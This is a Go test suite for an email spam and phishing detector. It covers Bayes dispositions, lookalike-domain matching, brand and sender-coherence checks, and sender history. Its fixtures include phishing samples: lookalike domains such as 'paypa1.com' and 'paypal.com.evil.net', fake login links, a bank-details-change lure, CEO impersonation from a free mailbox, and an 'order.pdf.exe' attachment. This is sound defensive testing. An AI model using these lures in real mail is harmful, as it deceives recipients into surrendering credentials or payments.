		{"model alone: spam content is only BULK", bayes.Score{Spam: 0.99, Phish: 0.1}, nil, TrigModelOnly, Bulk},
		{"model and hidden recipients: still BULK", bayes.Score{Spam: 0.99, Phish: 0.1}, noTo, TrigModelOnly, Bulk},
		{"model and spam wording: SPAM", bayes.Score{Spam: 0.99, Phish: 0.1}, phrases, TrigSpamLanguage, Spam},
		{"model and malformed header: SPAM", bayes.Score{Spam: 0.99, Phish: 0.1}, malformed, TrigBayesSpam, Spam},
		{"model and a mislabelled charset: still BULK", bayes.Score{Spam: 0.99, Phish: 0.1}, badUTF8, TrigModelOnly, Bulk},
		{"model phish", bayes.Score{Spam: 0.99, Phish: 0.95}, nil, TrigBayesPhish, Suspicious},
		{"model phish at the split", bayes.Score{Spam: 0.99, Phish: 0.6}, nil, TrigBayesPhish, Suspicious},
		{"model ham", bayes.Score{Spam: 0.02, Phish: -1}, nil, TrigBayesHam, None},
		{"leans ham", bayes.Score{Spam: 0.45, Phish: 0.5}, nil, "", None},
		{"unsure: BULK", bayes.Score{Spam: 0.5, Phish: 0.5}, nil, TrigBayesUnsure, Bulk},
		{"leans spam alone: BULK", bayes.Score{Spam: 0.75, Phish: 0.1}, nil, TrigBayesLean, Bulk},
		{"leans spam and hidden recipients: BULK", bayes.Score{Spam: 0.75, Phish: 0.1}, noTo, TrigModelOnly, Bulk},
		{"leans spam and spam wording: SPAM", bayes.Score{Spam: 0.75, Phish: 0.1}, phrases, TrigBayesLean, Spam},
		{"bad content from a free mailbox", bayes.Score{Spam: 0.7, Phish: 0.1}, gmail, TrigFreemailScam, Suspicious},
		{"bad content replying to a free mailbox", bayes.Score{Spam: 0.95, Phish: 0.1}, replyGmail, TrigFreemailScam, Suspicious},
		{"ham content from a free mailbox", bayes.Score{Spam: 0.3, Phish: 0.1}, gmail, "", None},
		{"spam content with a shortener", bayes.Score{Spam: 0.99, Phish: 0.1}, shortener, TrigBayesBadPhish, Suspicious},
		{"leaning spam with a shortener", bayes.Score{Spam: 0.7, Phish: 0.1}, shortener, TrigBayesBadPhish, Suspicious},
		{"unsure with a shortener", bayes.Score{Spam: 0.55, Phish: 0.1}, shortener, TrigBayesUnsure, Bulk},
		{"leaning spam with a bank-details change", bayes.Score{Spam: 0.75, Phish: 0.1}, func(m *message.Message) {
			m.Text = "Please note we changed our bank; all payments should be sent to the new account from today."
		}, TrigBayesBadPhish, Suspicious},
		{"ham content with IP and mismatched links: discounted", bayes.Score{Spam: 0.3, Phish: 0.1}, ipLinks, TrigBayesHamPhish, None},
		{"no model, IP and mismatched links", bayes.Score{Spam: -1, Phish: -1}, ipLinks, "", Suspicious},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m := base()
			if tc.edit != nil {
				tc.edit(m)
			}
			d := New(Config{}, fakeScorer(tc.score))
			v := d.Detect(context.Background(), m, auth.Result{}, nil)
			if v.Disposition != tc.want || v.BayesSpam != tc.score.Spam {
				t.Errorf("%+v: got %s (bayes %v), want %s; triggers %v", tc.score, v.Disposition, v.BayesSpam, tc.want, names(v))
			}
			if tc.trigger != "" && !slices.Contains(names(v), tc.trigger) {
				t.Errorf("%+v: triggers %v, want %s", tc.score, names(v), tc.trigger)
			}
		})
	}
	if v := New(Config{}, nil).Detect(context.Background(), base(), auth.Result{}, nil); v.BayesSpam != -1 {
		t.Errorf("no scorer: bayes %v", v.BayesSpam)
	}
}

func TestLookalike(t *testing.T) {
	tests := []struct {
		host, prot string
		want       bool
	}{
		{"acme.com", "acme.com", false},
		{"mail.acme.com", "acme.com", false},
		{"acrne.com", "acme.com", true},                            // rn -> m
		{"paypa1.com", "paypal.com", true},                         // digit substitution
		{"micros0ft.com", "microsoft.com", true},                   // 0 -> o
		{"xn--pypal-4ve.com", "paypal.com", true},                  // Cyrillic а, punycode
		{"paypal.co", "paypal.com", true},                          // other suffix
		{"paypal-secure.com", "paypal.com", true},                  // lure word
		{"securepaypal.net", "paypal.com", true},                   // lure word
		{"northwindtraders-hr.com", "northwind-traders.com", true}, // lure word, hyphen moved
		{"northwind-tradersgroup.net", "northwind-traders.com", true},
		{"northwindtraders.com", "northwind-traders.com", true}, // hyphen dropped: edit distance 1
		{"paypal.com.evil.net", "paypal.com", true},             // embedded
		{"contoso.com", "contosso.com", true},                   // edit distance 1
		{"example.com", "acme.com", false},
		{"acne.com", "acme.com", false}, // short names need exact skeletons
		{"paypalmusic.com", "paypal.com", false},
		{"microsoftonline.com", "microsoft.com", true}, // "online" is a lure word: exempt it with a trusted domain
	}
	for _, tc := range tests {
		_, got := lookalikeOf(tc.host, tc.prot)
		if got != tc.want {
			t.Errorf("lookalikeOf(%q, %q) = %v, want %v", tc.host, tc.prot, got, tc.want)
		}
	}
}

func TestDamerauLevenshtein(t *testing.T) {
	for _, tc := range []struct {
		a, b string
		want int
	}{{"", "", 0}, {"abc", "abc", 0}, {"abc", "acb", 1}, {"kitten", "sitting", 3}, {"", "ab", 2}, {"ca", "abc", 3}} {
		if got := damerauLevenshtein(tc.a, tc.b); got != tc.want {
			t.Errorf("dl(%q,%q) = %d, want %d", tc.a, tc.b, got, tc.want)
		}
	}
}

func TestSkeleton(t *testing.T) {
	for _, pair := range [][2]string{{"раураl", "paypal"}, {"rnicrosoft", "microsoft"}, {"vvells", "wells"}, {"ǎpple", "apple"}, {"ＡＰＰＬＥ", "apple"}} {
		if skeleton(pair[0]) != skeleton(pair[1]) {
			t.Errorf("skeleton(%q) = %q, skeleton(%q) = %q", pair[0], skeleton(pair[0]), pair[1], skeleton(pair[1]))
		}
	}
}

func TestLoadOrgFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "org.json")
	os.WriteFile(path, []byte(`{"protected_domains": ["Acme.COM."], "executives": [{"name": "Jane Doe", "email": "jane@acme.com"}]}`), 0o600)
	p, err := LoadOrgFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(p.ProtectedDomains, []string{"acme.com"}) || len(p.Executives) != 1 || p.Executives[0].Name != "Jane Doe" {
		t.Fatalf("got %+v", p)
	}
	os.WriteFile(path, []byte(`{`), 0o600)
	if _, err := LoadOrgFile(path); err == nil {
		t.Fatal("bad JSON accepted")
	}
	if _, err := LoadOrgFile(filepath.Join(dir, "missing.json")); err == nil {
		t.Fatal("missing file accepted")
	}
}

func TestPolicyPatterns(t *testing.T) {
	s := sender{addr: "a@mail.example.com", domain: "mail.example.com"}
	for _, tc := range []struct {
		pattern string
		typ     PatternType
		regex   bool
		want    bool
	}{
		{"example.com", PatternDomain, false, true},
		{"mail.example.com", PatternDomain, false, true},
		{"xample.com", PatternDomain, false, false},
		{"A@mail.example.com", PatternEmail, false, true},
		{"b@mail.example.com", PatternEmail, false, false},
		{`@mail\.example\.com$`, PatternEmail, true, true},
		{`(`, PatternEmail, true, false},
		{"192.0.2.0/24", PatternIP, false, false},
	} {
		if got := matchPattern(tc.pattern, tc.typ, tc.regex, s); got != tc.want {
			t.Errorf("%s %s regex=%v: %v, want %v", tc.typ, tc.pattern, tc.regex, got, tc.want)
		}
	}
}

func TestTrainingClass(t *testing.T) {
	want := map[Disposition]bayes.Class{Malicious: bayes.Phish, Suspicious: bayes.Phish, Spoof: bayes.Phish, Spam: bayes.Spam, Bulk: bayes.Ham, None: bayes.Ham}
	for d, c := range want {
		if got := TrainingClass(d); got != c {
			t.Errorf("TrainingClass(%s) = %s, want %s", d, got, c)
		}
	}
	if TrainingClass("X") != bayes.Untrained {
		t.Error("unknown disposition trained")
	}
}

// TestBayesHamPhish: a message the content model finds ham has its soft phish
// triggers (links, wording) discounted, never its identity triggers.
func TestBayesHamPhish(t *testing.T) {
	ham := New(Config{}, fakeScorer(bayes.Score{Spam: 0.01, Phish: -1}))
	m := base()
	m.Links = []message.Link{{Href: "http://evil.example.net/login", Text: "www.mybank.com", Source: "html"}, {Href: "http://192.0.2.7/x"}}
	v := ham.Detect(context.Background(), m, auth.Result{}, nil)
	if v.Disposition != None || !slices.Contains(names(v), TrigBayesHamPhish) {
		t.Errorf("ham-like content with link anomalies: %s %v", v.Disposition, names(v))
	}
	if v := New(Config{}, nil).Detect(context.Background(), m, auth.Result{}, nil); v.Disposition != Suspicious {
		t.Errorf("without the model: %s %v", v.Disposition, names(v))
	}
	m = base()
	m.From = message.Address{Name: "Jane Doe", Addr: "jane.doe.ceo@gmail.com"}
	v = ham.Detect(context.Background(), m, auth.Result{}, org())
	if slices.Contains(names(v), TrigBayesHamPhish) || v.Disposition != Suspicious {
		t.Errorf("executive impersonation with ham-like content: %s %v", v.Disposition, names(v))
	}
	// bayes_lean_spam plus one more spam signal is SPAM.
	lean := New(Config{}, fakeScorer(bayes.Score{Spam: 0.75, Phish: 0.1}))
	m = base()
	m.Text += " Act now, this is a limited time offer!"
	if v := lean.Detect(context.Background(), m, auth.Result{}, nil); v.Disposition != Spam {
		t.Errorf("leaning spam, spam wording: %s %v", v.Disposition, names(v))
	}
}

func TestThresholdsFlag(t *testing.T) {
	th := DefaultConfig().Thresholds
	if err := th.Set("spam=6, bayes-bulk=0.55,min-malicious-triggers=3"); err != nil {
		t.Fatal(err)
	}
	if th.Spam != 6 || th.BayesBulk != 0.55 || th.MinMaliciousTriggers != 3 || th.Bulk != DefaultConfig().Thresholds.Bulk {
		t.Errorf("after Set: %+v", th)
	}
	var back Thresholds
	if err := back.Set(th.String()); err != nil || back != th {
		t.Errorf("String/Set round trip: %v %+v != %+v", err, back, th)
	}
	for _, bad := range []string{"spam", "spam=-1", "bayes-spam=1.5", "nonsense=3", "min-malicious-triggers=0", "bulk=x"} {
		if err := th.Set(bad); err == nil {
			t.Errorf("Set(%q): no error", bad)
		}
	}
}

func TestBrandConsistent(t *testing.T) {
	notice := func(m *message.Message) {
		m.From = message.Address{Name: "PayPal", Addr: "service@paypal.com"}
		m.Subject = "You've received a payment"
		m.Text = "Log in to your account to see the details of your payment."
		m.Links = []message.Link{
			{Href: "https://www.paypal.com/myaccount/transactions", Host: "www.paypal.com", Source: "html"},
			{Href: "https://epl.paypal-communication.com/T/v1/abc", Host: "epl.paypal-communication.com", Source: "html"},
		}
	}
	dmarcPass := auth.Result{DMARC: auth.DMARCResult{Result: auth.ResultPass}}
	tests := []struct {
		name  string
		edit  func(*message.Message)
		a     auth.Result
		fires bool
		want  Disposition
	}{
		{"every link on the brand's domains", nil, auth.Result{}, true, None},
		{"a link elsewhere", func(m *message.Message) {
			m.Links = append(m.Links, message.Link{Href: "https://paypal-resolve.example/login", Host: "paypal-resolve.example"})
		}, auth.Result{}, false, Suspicious},
		{"a redirect through the brand to elsewhere", func(m *message.Message) {
			m.Links[0].Href = "https://www.paypal.com/redirect?url=https%3A%2F%2Fpaypal-resolve.example%2Flogin"
		}, auth.Result{}, false, Suspicious},
		{"a link to a page its users publish", func(m *message.Message) {
			m.From = message.Address{Name: "Google Drive", Addr: "drive-shares-noreply@google.com"}
			m.Links = []message.Link{{Href: "https://docs.google.com/forms/d/e/1FAIpQL/viewform", Host: "docs.google.com"}}
		}, auth.Result{}, false, Suspicious},
		{"replies to elsewhere", func(m *message.Message) {
			m.ReplyTo = []message.Address{{Addr: "resolution@paypal-help.example"}}
		}, auth.Result{}, false, Suspicious},
		{"a consumer mailbox of the brand", func(m *message.Message) {
			m.From.Addr = "paypal.service.team@gmail.com"
			m.Links = []message.Link{{Href: "https://mail.google.com/", Host: "mail.google.com"}}
		}, auth.Result{}, false, Malicious}, // and brand_impersonation: "PayPal" at gmail.com
		{"no links", func(m *message.Message) { m.Links = nil }, auth.Result{}, false, Suspicious},
		{"authenticated brand, links to its mail provider", func(m *message.Message) {
			m.Links = []message.Link{{Href: "https://u123.ct.sendgrid.net/ls/click?upn=x", Host: "u123.ct.sendgrid.net"}}
		}, dmarcPass, true, None},
		{"authenticated brand, Reply-To the user who shared", func(m *message.Message) {
			m.From = message.Address{Name: "Alex (via Dropbox)", Addr: "no-reply@dropbox.com"}
			m.ReplyTo = []message.Address{{Name: "Alex", Addr: "alex.rivera@gmail.com"}}
			m.Links = []message.Link{{Href: "https://www.dropbox.com/scl/fo/x", Host: "www.dropbox.com"}}
		}, dmarcPass, true, None},
		{"a mailto link to the recipient (masked)", func(m *message.Message) {
			m.To = []message.Address{{Addr: "jane@acme.com"}}
			m.Links = append(m.Links, message.Link{Href: "mailto:ja**@acme.com", Host: "acme.com", Text: "ja**@acme.com"})
		}, auth.Result{}, true, None},
		{"a mailto link to someone else", func(m *message.Message) {
			m.To = []message.Address{{Addr: "jane@acme.com"}}
			m.Links = append(m.Links, message.Link{Href: "mailto:claims@paypal-disputes.example", Host: "paypal-disputes.example"})
		}, auth.Result{}, false, Suspicious},
		{"a link to the organisation's own SharePoint", func(m *message.Message) {
			m.From = message.Address{Name: "Microsoft Teams", Addr: "noreply@email.teams.microsoft.com"}
			m.Links = []message.Link{
				{Href: "https://acme-my.sharepoint.com/:v:/g/personal/pat/rec", Host: "acme-my.sharepoint.com"},
				{Href: "https://go.microsoft.com/fwlink/?LinkId=521839", Host: "go.microsoft.com"},
			}
		}, auth.Result{}, true, None},
		{"a link to someone else's SharePoint", func(m *message.Message) {
			m.From = message.Address{Name: "Microsoft Teams", Addr: "noreply@email.teams.microsoft.com"}
			m.Links = []message.Link{{Href: "https://acmeportal.sharepoint.com/sites/x", Host: "acmeportal.sharepoint.com"}}
		}, auth.Result{}, false, Suspicious},
		{"Reply-To in the recipient's organisation", func(m *message.Message) {
			m.ReplyTo = []message.Address{{Addr: "pat@acme.com"}}
		}, auth.Result{}, true, None},
		{"not a registry brand", func(m *message.Message) {
			m.From = message.Address{Name: "Billing", Addr: "billing@shop.example"}
			m.Links = []message.Link{{Href: "https://shop.example/account", Host: "shop.example"}}
		}, auth.Result{}, false, Suspicious},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m := base()
			notice(m)
			if tc.edit != nil {
				tc.edit(m)
			}
			v := New(Config{}, fakeScorer(bayes.Score{Spam: 0.99, Phish: 0.95})).Detect(context.Background(), m, tc.a, org())
			if got := slices.Contains(names(v), TrigBrandConsistent); got != tc.fires || v.Disposition != tc.want {
				t.Errorf("brand_consistent %v (want %v), %s (want %s); triggers %v", got, tc.fires, v.Disposition, tc.want, names(v))
			}
		})
	}
}

func history(h SenderHistory) func(context.Context, string) (SenderHistory, error) {
	return func(context.Context, string) (SenderHistory, error) { return h, nil }
}

func TestSenderHistory(t *testing.T) {
	now := time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC)
	longAgo := now.AddDate(0, -6, 0)
	pay := func(m *message.Message) {
		m.Text = "Please process the attached wire transfer today, it is urgent."
	}
	tests := []struct {
		name    string
		h       *SenderHistory // nil: no history kept
		authed  bool
		edit    func(*message.Message)
		score   bayes.Score
		trigger string
		want    float64 // the trigger's score; 0: must not fire
	}{
		{"payment, no history kept", nil, true, pay, bayes.Score{Spam: -1}, TrigPaymentRequest, scorePaymentUnknown},
		{"payment, first-time sender", &SenderHistory{}, true, pay, bayes.Score{Spam: -1}, TrigPaymentRequest, scorePaymentFirstTime},
		{"payment, sender with only bad mail", &SenderHistory{Messages: 3}, true, pay, bayes.Score{Spam: -1}, TrigPaymentRequest, scorePaymentFirstTime},
		{"payment, known and authenticated", &SenderHistory{Messages: 3, Clean: 3, First: longAgo}, true, pay, bayes.Score{Spam: -1}, TrigPaymentRequest, 0},
		{"payment, known but forged", &SenderHistory{Messages: 3, Clean: 3, First: longAgo}, false, pay, bayes.Score{Spam: -1}, TrigPaymentRequest, scorePaymentUnknown},
		{"model phish, established sender", &SenderHistory{Messages: 20, Clean: 20, First: longAgo}, true, nil, bayes.Score{Spam: 0.99, Phish: 0.9}, TrigEstablishedSender, -scoreBayesPhish},
		{"model phish, established but not authenticated", &SenderHistory{Messages: 20, Clean: 20, First: longAgo}, false, nil, bayes.Score{Spam: 0.99, Phish: 0.9}, TrigEstablishedSender, 0},
		{"model phish, too new", &SenderHistory{Messages: 20, Clean: 20, First: now.Add(-48 * time.Hour)}, true, nil, bayes.Score{Spam: 0.99, Phish: 0.9}, TrigEstablishedSender, 0},
		{"model phish, too few clean", &SenderHistory{Messages: 2, Clean: 2, First: longAgo}, true, nil, bayes.Score{Spam: 0.99, Phish: 0.9}, TrigEstablishedSender, 0},
		{"model phish, much bad mail", &SenderHistory{Messages: 10, Clean: 7, First: longAgo}, true, nil, bayes.Score{Spam: 0.99, Phish: 0.9}, TrigEstablishedSender, 0},
		{"model ham, established sender: nothing to discount", &SenderHistory{Messages: 20, Clean: 20, First: longAgo}, true, nil, bayes.Score{Spam: 0.02}, TrigEstablishedSender, 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m := base()
			if tc.edit != nil {
				tc.edit(m)
			}
			p := &Policy{}
			if tc.h != nil {
				p.SenderHistory = history(*tc.h)
			}
			var a auth.Result
			if tc.authed {
				a.DMARC.Result = auth.ResultPass
			}
			d := New(Config{Now: func() time.Time { return now }}, fakeScorer(tc.score))
			v := d.Detect(context.Background(), m, a, p)
			got := 0.0
			for _, tr := range v.Triggers {
				if tr.Name == tc.trigger {
					got = tr.Score
				}
			}
			if got != tc.want {
				t.Errorf("%s scored %v, want %v; triggers %v (%s)", tc.trigger, got, tc.want, names(v), v.Disposition)
			}
			if tc.trigger == TrigEstablishedSender && tc.want != 0 && v.Disposition != None {
				t.Errorf("established sender, model phish: %s, want NONE", v.Disposition)
			}
		})
	}
}

// TestIdentifiedMailer: spam-rated commercial mail from a sender that stands
// behind it is BULK; any sign of a hidden or forged identity keeps it SPAM.
func TestIdentifiedMailer(t *testing.T) {
	d := New(Config{}, fakeScorer(bayes.Score{Spam: 0.99, Phish: 0.1}))
	mail := func() (*message.Message, auth.Result) {
		m := base()
		m.From = message.Address{Name: "Shop News", Addr: "news@mail.shop.example"}
		m.Text = "Our winter sale: act now, this offer ends Friday. Unsubscribe: https://shop.example/unsub?u=1"
		m.Links = []message.Link{
			{Href: "https://shop.example/sale", Host: "shop.example", Source: "text"},
			{Href: "https://shop.example/unsub?u=1", Host: "shop.example", Text: "Unsubscribe", Source: "html"},
		}
		return m, auth.Result{HeaderFromDomain: "mail.shop.example", EnvelopeFromDomain: "bounce.shop.example"}
	}
	tests := []struct {
		name string
		edit func(*message.Message, *auth.Result)
		want Disposition
	}{
		{"identified: BULK", nil, Bulk},
		{"List-Unsubscribe mailto at the sender", func(m *message.Message, a *auth.Result) {
			m.Links = m.Links[:1]
			m.Headers = append(m.Headers, message.Header{Name: "List-Unsubscribe", Value: "<mailto:leave@shop.example?subject=unsubscribe>"})
		}, Bulk},
		{"no way out", func(m *message.Message, a *auth.Result) { m.Links = m.Links[:1] }, Spam},
		{"unsubscribe hidden", func(m *message.Message, a *auth.Result) { m.Links[1].Hidden = true }, Spam},
		{"unsubscribe elsewhere", func(m *message.Message, a *auth.Result) { m.Links[1].Host = "optout.example.net" }, Spam},
		{"List-Unsubscribe elsewhere", func(m *message.Message, a *auth.Result) {
			m.Links = m.Links[:1]
			m.Headers = append(m.Headers, message.Header{Name: "List-Unsubscribe", Value: "<https://optout.example.net/x>"})
		}, Spam},
		{"envelope elsewhere", func(m *message.Message, a *auth.Result) {
			a.EnvelopeFromDomain, a.EnvelopeMismatch = "bulk.example.net", true
		}, Spam},
		{"no envelope", func(m *message.Message, a *auth.Result) { a.EnvelopeFromDomain = "" }, Spam},
		{"Reply-To elsewhere (a divert besides)", func(m *message.Message, a *auth.Result) {
			m.ReplyTo = []message.Address{{Addr: "orders@example.net"}}
		}, Suspicious},
		{"SPF fails", func(m *message.Message, a *auth.Result) { a.SPF.Result = auth.ResultSoftfail }, Spam},
		{"malformed", func(m *message.Message, a *auth.Result) {
			m.Problems = []message.Problem{{Code: message.ProblemBadHeader, Detail: "To: missing @"}}
		}, Spam},
		{"phishing is judged as before", func(m *message.Message, a *auth.Result) {
			m.Links = append(m.Links, message.Link{Href: "https://bit.ly/x1", Host: "bit.ly", Source: "text"})
		}, Suspicious},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m, a := mail()
			if tc.edit != nil {
				tc.edit(m, &a)
			}
			v := d.Detect(context.Background(), m, a, nil)
			if v.Disposition != tc.want || slices.Contains(names(v), TrigIdentifiedMailer) != (tc.want == Bulk) {
				t.Errorf("got %s %v, want %s", v.Disposition, names(v), tc.want)
			}
		})
	}
}

// TestCoherentSender: a display name that names the From organisation, with
// every link and Reply-To on it, discounts the model's phishing call to BULK;
// naming someone else, or leading anywhere else, does not.
func TestCoherentSender(t *testing.T) {
	mail := func(m *message.Message) {
		m.From = message.Address{Name: "Log Cabin Kits", Addr: "news@mail.logcabinkits.example"}
		m.Subject = "Confirm your order"
		m.Text = "Your order is confirmed. Sign in to your account to track it."
		m.Links = []message.Link{
			{Href: "https://www.logcabinkits.example/account", Host: "www.logcabinkits.example", Source: "html"},
			{Href: "https://click.logcabinkits.example/t/abc", Host: "click.logcabinkits.example", Source: "html"},
		}
	}
	tests := []struct {
		name  string
		edit  func(*message.Message, *auth.Result)
		fires bool
		want  Disposition
	}{
		{"name, address and links agree: BULK", nil, true, Bulk},
		{"one word of the name", func(m *message.Message, a *auth.Result) {
			m.From = message.Address{Name: "Marriott Bonvoy", Addr: "reservations@email.marriott.example"}
			m.Links = []message.Link{{Href: "https://www.marriott.example/res", Host: "www.marriott.example"}}
		}, true, Bulk},
		{"hyphenated domain", func(m *message.Message, a *auth.Result) {
			m.From = message.Address{Name: "Log Cabin Kits", Addr: "news@log-cabin-kits.example"}
			m.Links = []message.Link{{Href: "https://log-cabin-kits.example/a", Host: "log-cabin-kits.example"}}
		}, true, Bulk},
		{"the organisation's mail domain", func(m *message.Message, a *auth.Result) {
			m.From = message.Address{Name: "Autodesk", Addr: "autodesk@autodeskcommunications.example"}
			m.Links = []message.Link{{Href: "https://www.autodeskcommunications.example/r", Host: "www.autodeskcommunications.example"}}
		}, true, Bulk},
		{"a name with a lure word added is no mail domain", func(m *message.Message, a *auth.Result) {
			m.From = message.Address{Name: "Autodesk", Addr: "autodesk@autodesksecurity.example"}
			m.Links = []message.Link{{Href: "https://www.autodesksecurity.example/r", Host: "www.autodesksecurity.example"}}
		}, false, Suspicious},
		{"the label only inside a word", func(m *message.Message, a *auth.Result) {
			m.From = message.Address{Name: "Billing Department", Addr: "billing@ing.example"}
			m.Links = []message.Link{{Href: "https://ing.example/login", Host: "ing.example"}}
		}, false, Suspicious},
		{"names someone else", func(m *message.Message, a *auth.Result) { m.From.Name = "Account Security" }, false, Suspicious},
		{"a link elsewhere", func(m *message.Message, a *auth.Result) {
			m.Links = append(m.Links, message.Link{Href: "https://verify-account.example/login", Host: "verify-account.example"})
		}, false, Suspicious},
		{"a redirect elsewhere", func(m *message.Message, a *auth.Result) {
			m.Links[1].Href = "https://click.logcabinkits.example/r?u=https%3A%2F%2Fverify-account.example%2Flogin"
		}, false, Suspicious},
		{"replies elsewhere", func(m *message.Message, a *auth.Result) {
			m.ReplyTo = []message.Address{{Addr: "orders@verify-account.example"}}
		}, false, Suspicious},
		{"no links", func(m *message.Message, a *auth.Result) { m.Links = nil }, false, Suspicious},
		{"authenticated, no links", func(m *message.Message, a *auth.Result) {
			m.Links = nil
			a.DMARC.Result = auth.ResultPass
		}, true, Bulk},
		{"authenticated, a link through its mail provider", func(m *message.Message, a *auth.Result) {
			m.Links = append(m.Links, message.Link{Href: "https://u1.ct.sendgrid.net/ls/click?upn=x", Host: "u1.ct.sendgrid.net"})
			a.DMARC.Result = auth.ResultPass
		}, true, Bulk},
		{"authenticated, replies elsewhere", func(m *message.Message, a *auth.Result) {
			m.ReplyTo = []message.Address{{Addr: "orders@verify-account.example"}}
			a.DMARC.Result = auth.ResultPass
		}, false, Suspicious},
		{"a link into the recipient's organisation", func(m *message.Message, a *auth.Result) {
			m.Links = append(m.Links, message.Link{Href: "https://www.acme.com/contact-form", Host: "www.acme.com"})
		}, true, Bulk},
		{"free hosting on the sender's own name", func(m *message.Message, a *auth.Result) {
			m.From = message.Address{Name: "Weebly", Addr: "team@weebly.com"}
			m.Links = []message.Link{{Href: "https://secure-login.weebly.com/", Host: "secure-login.weebly.com"}}
		}, false, Suspicious},
		{"other phishing triggers are not discounted", func(m *message.Message, a *auth.Result) {
			m.Attachments = []message.Attachment{{Name: "order.pdf.exe", ContentType: "application/octet-stream", SniffedType: "application/x-msdownload"}}
		}, true, Malicious},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m := base()
			mail(m)
			var a auth.Result
			if tc.edit != nil {
				tc.edit(m, &a)
			}
			v := New(Config{}, fakeScorer(bayes.Score{Spam: 0.99, Phish: 0.95})).Detect(context.Background(), m, a, org())
			if got := slices.Contains(names(v), TrigCoherentSender); got != tc.fires || v.Disposition != tc.want {
				t.Errorf("coherent_sender %v (want %v), %s (want %s); triggers %v", got, tc.fires, v.Disposition, tc.want, names(v))
			}
		})
	}
}

// TestBrandNamesNormalised: every registry name keeps a word of three letters
// or more once normalised as display names are (digits fold to look-alike
// letters, other characters split words); "n26" became "n", which matched every
// name ending in the initial N.
func TestBrandNamesNormalised(t *testing.T) {
	for _, b := range brands {
		for _, n := range b.names {
			longest := 0
			for _, w := range strings.Fields(normName(n)) {
				longest = max(longest, len([]rune(w)))
			}
			if longest < 3 {
				t.Errorf("brand name %q normalises to %q", n, normName(n))
			}
		}
	}
}
